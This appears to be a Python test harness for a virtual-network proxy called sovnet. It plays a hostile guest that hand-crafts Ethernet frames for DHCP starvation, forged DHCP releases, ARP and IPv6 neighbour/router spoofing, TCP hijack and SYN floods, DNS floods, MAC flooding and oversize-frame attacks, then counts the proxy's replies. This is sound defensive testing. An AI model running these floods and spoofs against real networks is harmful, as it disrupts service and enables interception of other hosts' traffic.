#!/usr/bin/env python3
"""A hostile guest for sovnet's attack tests: it connects to a proxy's
`-listen` socket as gvforwarder does (the vm framing: one `POST /connect`
head, then frames behind a little-endian 16-bit length) and writes raw
Ethernet frames that a compromised or broken guest could send. Frames are
built here by hand from the RFCs, not with sovnet's code.

Each attack is bounded in count and time. A reader thread counts what comes
back (DHCP replies by type, DNS answers by response code, TCP RSTs and
segments with data, all frames); at the end one JSON line reports it.

    hostile.py SOCKET ATTACK [options]
"""
import argparse
import json
import os
import random
import socket
import struct
import sys
import threading
import time

GATEWAY = bytes.fromhex("5a94efe40cdd")
BROADCAST = b"\xff" * 6
CONNECT = (b"POST /connect HTTP/1.1\r\nHost: \r\nUser-Agent: Go-http-client/1.1\r\n"
           b"Content-Length: 0\r\n\r\n")


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ip(text):
    return socket.inet_aton(text)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(destination, source, ethertype, payload):
    return destination + source + struct.pack("!H", ethertype) + payload


def ipv4(source, destination, protocol, payload, identification=0):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), identification, 0, 64, protocol, 0,
                         source, destination)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def udp(source, destination, source_port, destination_port, payload):
    length = 8 + len(payload)
    header = struct.pack("!HHHH", source_port, destination_port, length, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, 17, length)
    value = checksum(pseudo + header + payload) or 0xFFFF
    return ipv4(source, destination, 17, header[:6] + struct.pack("!H", value) + payload)


def tcp(source, destination, source_port, destination_port, sequence, acknowledgment, flags, payload=b""):
    header = struct.pack("!HHIIBBHHH", source_port, destination_port, sequence, acknowledgment, 5 << 4, flags,
                         65535, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    value = checksum(pseudo + header + payload)
    return ipv4(source, destination, 6, header[:16] + struct.pack("!H", value) + header[18:] + payload)


def ip6(text):
    return socket.inet_pton(socket.AF_INET6, text)


def icmpv6(source, destination, message_type, body, hop_limit=255):
    """An IPv6 packet carrying an ICMPv6 message (RFC 4443), checksummed over the pseudo-header (RFC 8200 §8.1)."""
    message = struct.pack("!BBH", message_type, 0, 0) + body
    pseudo = source + destination + struct.pack("!IxxxB", len(message), 58)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    return struct.pack("!IHBB", 6 << 28, len(message), 58, hop_limit) + source + destination + message


def multicast_mac(address):
    return b"\x33\x33" + address[12:]


def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, sender_mac, sender_ip, target_mac, target_ip)


def dhcp(message_type, chaddr, xid, requested=None, server=None, ciaddr=b"\0" * 4, client_id=None):
    fixed = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000, ciaddr, b"\0" * 4, b"\0" * 4,
                        b"\0" * 4, chaddr + b"\0" * 10, b"", b"")
    options = b"\x63\x82\x53\x63" + bytes([53, 1, message_type])
    if requested:
        options += bytes([50, 4]) + requested
    if server:
        options += bytes([54, 4]) + server
    if client_id:
        options += bytes([61, len(client_id)]) + client_id
    options += b"\xff"
    return (fixed + options).ljust(300, b"\0")


def dns_query(identifier, name):
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", identifier, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 1, 1)


class Guest:
    """A connection to the proxy, a frame writer and a counting reader."""

    def __init__(self, path, offload=False):
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.socket.connect(path)
        self.offload = offload
        self.counts = {"frames": 0}
        self.handshakes = {}
        self.closed = False
        self.lock = threading.Lock()
        head = CONNECT.replace(b"/connect", b"/sovnet/connect-offload") if offload else CONNECT
        self.socket.sendall(head)
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()
        self.pending = bytearray()

    def count(self, name):
        with self.lock:
            self.counts[name] = self.counts.get(name, 0) + 1

    def read(self):
        buffer = bytearray()
        answered = not self.offload
        try:
            while chunk := self.socket.recv(1 << 20):
                buffer += chunk
                if not answered:
                    # The proxy's 200 to the offload request comes before any frame.
                    end = buffer.find(b"\r\n\r\n")
                    if end < 0:
                        continue
                    answered = True
                    del buffer[:end + 4]
                while len(buffer) >= 2:
                    length = struct.unpack("<H", buffer[:2])[0]
                    if len(buffer) < 2 + length:
                        break
                    frame = bytes(buffer[2:2 + length])
                    del buffer[:2 + length]
                    self.inspect(frame[10:] if self.offload else frame)
        except OSError:
            pass
        self.closed = True

    def inspect(self, frame):
        self.count("frames")
        if len(frame) > 54 and frame[12:14] == b"\x86\xdd" and frame[20] == 58 and frame[54] == 129:
            self.count("echo6-reply")
        if len(frame) < 34 or frame[12:14] != b"\x08\x00":
            return
        header = (frame[14] & 0x0F) * 4
        protocol = frame[23]
        body = frame[14 + header:]
        if protocol == 17 and len(body) >= 8:
            source_port = struct.unpack("!H", body[0:2])[0]
            payload = body[8:]
            if source_port == 67 and len(payload) > 242:
                options = payload[240:]
                index = 0
                while index + 1 < len(options) and options[index] != 255:
                    if options[index] == 53:
                        self.count({2: "offer", 5: "ack", 6: "nak"}.get(options[index + 2], "dhcp-other"))
                        break
                    index += 2 + options[index + 1] if options[index] != 0 else 1
            elif source_port == 53 and len(payload) >= 4:
                self.count({0: "noerror", 2: "servfail", 3: "nxdomain", 5: "refused"}.get(payload[3] & 0x0F, "dns-other"))
        elif protocol == 6 and len(body) >= 20:
            flags = body[13]
            if flags & 0x04:
                self.count("rst")
            if flags & 0x12 == 0x12:
                self.count("syn-ack")
                self.handshakes[struct.unpack("!H", body[0:2])[0]] = struct.unpack("!I", body[4:8])[0]
            if len(body) > (body[12] >> 4) * 4:
                self.count("tcp-data")

    def send(self, frame, header=b"\0" * 10):
        if self.offload:
            frame = header + frame
        self.pending += struct.pack("<H", len(frame)) + frame
        if len(self.pending) > 1 << 16:
            self.flush()

    def flush(self):
        if self.pending:
            self.socket.sendall(self.pending)
            self.pending.clear()

    def settle(self, seconds):
        self.flush()
        time.sleep(seconds)

    def report(self, **extra):
        with self.lock:
            print(json.dumps(dict(self.counts, **extra), sort_keys=True), flush=True)


def random_mac(generator):
    return bytes([0x02]) + generator.randbytes(5)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("socket")
    parser.add_argument("attack")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--mac", default="02:66:66:66:66:01")
    parser.add_argument("--address", default="192.168.127.66")
    parser.add_argument("--target", default="192.168.127.2")
    parser.add_argument("--target-mac", default="5a:94:ef:e4:0c:ee")
    parser.add_argument("--port", type=int, default=7000)
    parser.add_argument("--guest-port", type=int, default=40000)
    parser.add_argument("--size", type=int, default=9000)
    parser.add_argument("--segment", type=int, default=1)
    parser.add_argument("--settle", type=float, default=1.0)
    parser.add_argument("--hold", type=float, default=0)
    a = parser.parse_args()
    generator = random.Random(7)
    me, address, gateway = mac(a.mac), ip(a.address), ip("192.168.127.1")
    guest = Guest(a.socket, offload=a.attack in ("oversize", "tiny-segments"))
    started = time.monotonic()

    if a.attack == "dns-flood":
        # Queries for names an upstream never answers, each with its own name and ID.
        for index in range(a.count):
            query = dns_query(index & 0xFFFF, f"n{index}.never.test")
            guest.send(ethernet(GATEWAY, me, 0x0800, udp(address, gateway, 40000 + index % 20000, 53, query)))
    elif a.attack == "dns-tcp-flood":
        # --count queries pipelined on one TCP connection to the gateway's port 53.
        sequence = 1000
        guest.send(ethernet(GATEWAY, me, 0x0800, tcp(address, gateway, 45000, 53, sequence, 0, 0x02)))
        guest.flush()
        deadline = time.monotonic() + 5
        while 53 not in guest.handshakes and time.monotonic() < deadline:
            time.sleep(0.01)
        if 53 in guest.handshakes:
            answer = guest.handshakes[53] + 1
            sequence += 1
            guest.send(ethernet(GATEWAY, me, 0x0800, tcp(address, gateway, 45000, 53, sequence, answer, 0x10)))
            stream = b"".join(struct.pack("!H", len(q)) + q for q in
                              (dns_query(index & 0xFFFF, f"t{index}.never.test") for index in range(a.count)))
            for offset in range(0, len(stream), 1400):
                chunk = stream[offset:offset + 1400]
                guest.send(ethernet(GATEWAY, me, 0x0800, tcp(address, gateway, 45000, 53, sequence, answer, 0x18, chunk)))
                sequence += len(chunk)
    elif a.attack == "dhcp-init-reboot":
        # INIT-REBOOT REQUESTs for every address, each from a new client.
        for index in range(a.count):
            client = random_mac(generator)
            wanted = ip(f"192.168.127.{3 + index % 251}")
            guest.send(ethernet(BROADCAST, client, 0x0800,
                                udp(b"\0" * 4, b"\xff" * 4, 68, 67, dhcp(3, client, index, requested=wanted))))
    elif a.attack == "dhcp-discover":
        for index in range(a.count):
            client = random_mac(generator)
            guest.send(ethernet(BROADCAST, client, 0x0800, udp(b"\0" * 4, b"\xff" * 4, 68, 67, dhcp(1, client, index))))
    elif a.attack == "dhcp-release":
        # RELEASE and DECLINE of another guest's address in its name (its MAC as chaddr).
        victim, victim_mac = ip(a.target), mac(a.target_mac)
        guest.send(ethernet(GATEWAY, me, 0x0800, udp(b"\0" * 4, gateway, 68, 67,
                                                     dhcp(7, victim_mac, 1, server=gateway, ciaddr=victim))))
        guest.send(ethernet(BROADCAST, me, 0x0800, udp(b"\0" * 4, b"\xff" * 4, 68, 67,
                                                       dhcp(4, victim_mac, 2, requested=victim, server=gateway))))
    elif a.attack == "dhcp-decline":
        # DECLINEs of random addresses, on and off the subnet, unicast to the gateway's MAC (no broadcast limit).
        for index in range(a.count):
            wanted = generator.randbytes(4) if index % 2 else ip(f"192.168.127.{3 + index % 251}")
            guest.send(ethernet(GATEWAY, me, 0x0800, udp(b"\0" * 4, b"\xff" * 4, 68, 67,
                                                           dhcp(4, me, index, requested=wanted, server=gateway))))
    elif a.attack == "arp-spoof":
        # Gratuitous ARP replies claiming the gateway's and the victim's addresses, broadcast and unicast.
        victim, victim_mac = ip(a.target), mac(a.target_mac)
        for _ in range(a.count):
            for claimed in (gateway, victim):
                guest.send(ethernet(BROADCAST, me, 0x0806, arp(2, me, claimed, BROADCAST, claimed)))
                guest.send(ethernet(victim_mac, me, 0x0806, arp(2, me, gateway, victim_mac, victim)))
    elif a.attack == "squat":
        # One packet from each address of the pool, .3 to .253.
        for _ in range(a.count):
            for last in range(3, 254):
                source = ip(f"192.168.127.{last}")
                guest.send(ethernet(GATEWAY, me, 0x0800, udp(source, gateway, 9, 9, b"mine")))
    elif a.attack == "spoof-to-guest":
        # An IPv4 packet to the victim from the gateway's address and from 0.0.0.0, switched guest to guest.
        victim_mac = mac(a.target_mac)
        for _ in range(a.count):
            for source in (gateway, b"\0" * 4, ip("192.168.127.254")):
                guest.send(ethernet(victim_mac, me, 0x0800, udp(source, ip(a.target), 53, a.port, b"forged")))
    elif a.attack == "hijack":
        # ACKs for another guest's connection (its address and port, our MAC), as if it were ours.
        for _ in range(a.count):
            guest.send(ethernet(GATEWAY, me, 0x0800, tcp(address, ip("192.168.127.254"), a.guest_port, a.port,
                                                         1, 1, 0x10)))
            guest.settle(0.2)
    elif a.attack == "zero-source":
        # TCP and UDP from 0.0.0.0 toward the host: never to be NATed.
        for index in range(a.count):
            guest.send(ethernet(GATEWAY, me, 0x0800, tcp(b"\0" * 4, ip("192.168.127.254"), 30000 + index, a.port,
                                                         1, 0, 0x02)))
            guest.send(ethernet(GATEWAY, me, 0x0800, udp(b"\0" * 4, ip("192.168.127.254"), 30000 + index, a.port, b"x")))
    elif a.attack == "syn-flood":
        # SYNs from --count addresses' worth of ports, never completed, to the host alias.
        for index in range(a.count):
            source = ip(f"192.168.127.{66 + index % 4}")
            guest.send(ethernet(GATEWAY, me, 0x0800, tcp(source, ip("192.168.127.254"), 20000 + index // 4, a.port,
                                                         1, 0, 0x02)))
    elif a.attack == "ndp-spoof":
        # Neighbour advertisements (RFC 4861 §4.4) claiming the gateway's and the victim's IPv6
        # addresses for our MAC, and router advertisements (§4.2) of a prefix and a default route.
        link_local = ip6("fe80::66:66ff:fe66:6601")
        all_nodes = ip6("ff02::1")
        for _ in range(a.count):
            for claimed in (ip6("fd00::1"), ip6(a.target)):
                body = struct.pack("!B3x", 0xA0) + claimed + bytes([2, 1]) + me
                guest.send(ethernet(multicast_mac(all_nodes), me, 0x86DD, icmpv6(link_local, all_nodes, 136, body)))
            prefix = bytes([3, 4, 64, 0xC0]) + struct.pack("!III", 86400, 14400, 0) + ip6("2001:db8:bad::")
            body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + bytes([1, 1]) + me + prefix
            guest.send(ethernet(multicast_mac(all_nodes), me, 0x86DD, icmpv6(link_local, all_nodes, 134, body)))
    elif a.attack == "ipv6-squat":
        # Echo requests to the gateway from --count addresses of the /64, then from the victim's.
        for index in range(a.count):
            source = ip6(f"fd00::66:{index // 65536:x}:{index % 65536:x}")
            guest.send(ethernet(GATEWAY, me, 0x86DD, icmpv6(source, ip6("fd00::1"), 128, struct.pack("!HH", 1, index & 0xFFFF),
                                                             hop_limit=64)))
        guest.send(ethernet(GATEWAY, me, 0x86DD, icmpv6(ip6(a.target), ip6("fd00::1"), 128, struct.pack("!HH", 2, 1),
                                                         hop_limit=64)))
    elif a.attack == "mac-flood":
        for _ in range(a.count):
            guest.send(ethernet(BROADCAST, random_mac(generator), 0x0800,
                                udp(b"\0" * 4, b"\xff" * 4, 68, 67, b"x")))
    elif a.attack == "oversize":
        # Plain (non-GSO) frames longer than a plain guest's MTU, unicast to the victim, over an offloading link.
        victim_mac = mac(a.target_mac)
        payload = b"\0" * (a.size - 14 - 28)
        for _ in range(a.count):
            guest.send(ethernet(victim_mac, me, 0x0800, udp(address, ip(a.target), 9, 9, payload)))
    elif a.attack == "tiny-segments":
        # TCP superframes of 60,000 bytes with --segment byte segments, to the victim.
        victim_mac = mac(a.target_mac)
        segment = tcp(address, ip(a.target), 9, 9, 1, 1, 0x18, b"\0" * 60000)
        header = struct.pack("<BBHHHH", 0, 1, 54, a.segment, 0, 0)  # no flags, GSO TCPv4, hdr_len, gso_size
        for _ in range(a.count):
            guest.send(ethernet(victim_mac, me, 0x0800, segment), header=header)
    else:
        print(f"unknown attack {a.attack}", file=sys.stderr)
        return 2
    guest.settle(a.settle)
    if a.hold:
        time.sleep(a.hold)
    guest.report(seconds=round(time.monotonic() - started, 2), closed=guest.closed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
